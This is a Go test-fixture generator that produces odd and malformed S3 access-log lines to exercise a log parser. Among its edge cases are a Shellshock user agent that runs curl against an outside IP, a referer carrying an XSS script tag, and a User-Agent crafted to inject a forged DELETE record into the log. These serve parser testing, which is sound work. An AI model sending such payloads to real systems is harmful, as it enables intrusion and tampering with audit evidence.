package samplelogs

import (
	"fmt"
	"strings"
	"time"
)

// oddity is a line that a parser may stumble over.
type oddity struct {
	malformed bool // no parser should take it for a record
	line      func(g *generator) string
}

// fakeRecord is what a client sends as its User-Agent to look like a record.
const fakeRecord = `x" - - - - - - - - -  ` + // closes the field, and a tail of nothing
	`79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be example-victim [06/Feb/2019:00:00:38 +0000] 192.0.2.3 ` +
	`arn:aws:iam::123456789012:user/mallory 3E57427F3EXAMPLE REST.DELETE.OBJECT evidence.pdf "DELETE /evidence.pdf HTTP/1.1" 204 - - 1 1 1 "-" "rm`

const fakeTail = `curl/8.17.0" - AAAA= SigV4 ECDHE-RSA-AES128-GCM-SHA256 AuthHeader innocent.example.com TLSv1.2 - - "`

// oddities are spread over the objects of a week, each once.
var oddities = []oddity{
	{line: withAgent(`my "quoted" agent`)},
	{line: withAgent(`Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) Version/26.1 Mobile/15E148 Safari/604.1"`)},
	{line: withAgent(fakeTail)},
	{line: withAgent(fakeRecord)},
	{line: withAgent("probe/1.0 \xff\xfe\x80 \xc3")}, // not UTF-8
	{line: withAgent("() { :; }; /bin/bash -c 'curl http://203.0.113.66/x'")},
	{line: withAgent(strings.Repeat("A-very-long-agent/1.0 ", 600))},
	{line: changed(func(r *request) { r.referer = `https://evil.example/"><script>alert(1)</script>` })},
	{line: changed(func(r *request) {
		r.referer = "https://www.example.org/?X-Amz-Signature=0a1b2c3d4e5f&X-Amz-Credential=AKIAEXAMPLE"
	})},
	{line: changed(func(r *request) { r.key, r.uri = "a%2522b.txt", `GET /a"b.txt HTTP/1.1` })},
	{line: changed(func(r *request) {
		r.uri = `GET /?f=[06/Feb/2019:00:00:38&sig=c2VjcmV0 HTTP/1.1`
		r.key = ""
	})},
	{line: changed(func(r *request) { r.uri, r.status, r.errorCode = "PROPFIND / HTTP/1.1", 405, "MethodNotAllowed" })},
	{line: changed(func(r *request) { r.operation, r.signature = "SOAP.ListBucket", "SigV2" })},
	{line: changed(signedTheOldWay)},
	{line: changed(func(r *request) { r.tls, r.cipher = "TLSV1.1", "ECDHE-RSA-AES128-SHA" })},
	{line: changed(func(r *request) { r.time = r.time.In(time.FixedZone("", 3600)) })},
	{line: changed(func(r *request) { r.version, r.hostID = "", "AIDAEXAMPLEEXAMPLE123 "+r.hostID })},
	{line: cutFields(1)}, // 26, the format of 2022
	{line: cutFields(2)},
	{line: cutFields(3)},
	{line: cutFields(9)}, // 18, the format of 2014
	{line: func(g *generator) string { return ordinary(g) + " 28th-field 29" }},
	{line: func(g *generator) string { return ordinary(g) + "\r" }},
	{line: func(*generator) string { return "" }},

	{malformed: true, line: func(g *generator) string { return ordinary(g)[:250] }},
	{malformed: true, line: func(g *generator) string { return ordinary(g)[:150] + ordinary(g) }},
	{malformed: true, line: func(*generator) string { return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>" }},
	{malformed: true, line: func(g *generator) string {
		return strings.Replace(ordinary(g), " HTTP/1.1\" ", " HTTP/1.1\" OK ", 1)
	}},
	{malformed: true, line: jsonLine},
	{malformed: true, line: func(g *generator) string { return ordinary(g)[:300] }}, // the object's end, see addOddities
}

// addOddities puts each oddity behind the last line of another object; the last
// oddity is a line that was torn off by the end of its object.
func (g *generator) addOddities(objects []Object, origins []origin) {
	for i, odd := range oddities {
		at := (2*i + 1) * len(objects) / (2 * len(oddities))
		o := &objects[at]
		g.site, g.now = origins[at].site, origins[at].time
		o.Lines = append(o.Lines, odd.line(g))
		if odd.malformed {
			o.Malformed++
		}
		o.Unterminated = i == len(oddities)-1
	}
}

// ordinary is the line of a GET by an IAM user.
func ordinary(g *generator) string { return changed(func(*request) {})(g) }

func withAgent(agent string) func(*generator) string {
	return changed(func(r *request) { r.agent = agent })
}

func changed(change func(r *request)) func(*generator) string {
	return func(g *generator) string {
		r := g.getRequest(robot)
		change(&r)
		return string(r.append(nil))
	}
}

// cutFields leaves the last n fields out, which were added to the format one by
// one over the years.
func cutFields(n int) func(*generator) string {
	return func(g *generator) string {
		line := ordinary(g)
		for range n {
			line = line[:strings.LastIndexByte(line, ' ')]
		}
		return line
	}
}

// signedTheOldWay makes a presigned request of signature version 2.
func signedTheOldWay(r *request) {
	r.uri = strings.Replace(r.uri, "x-id=GetObject", "AWSAccessKeyId=AKIAIOSFODNN7EXAMPLE&Expires=1794200000&Signature=vjbyPxybdZaNmGa%2ByT272YEAiv4%3D", 1)
	r.signature, r.auth = "SigV2", "QueryString"
}

// jsonLine is an object much like a JSON record of S3, whose time has no
// milliseconds.
func jsonLine(g *generator) string {
	return fmt.Sprintf(`{"schema_version_id":"1.0","bucket_owner":%q,"bucket_name":%q,"request_time":%q,"operation":"REST.GET.OBJECT"}`,
		g.site.owner, g.site.bucket, g.now.Format(time.RFC3339))
}
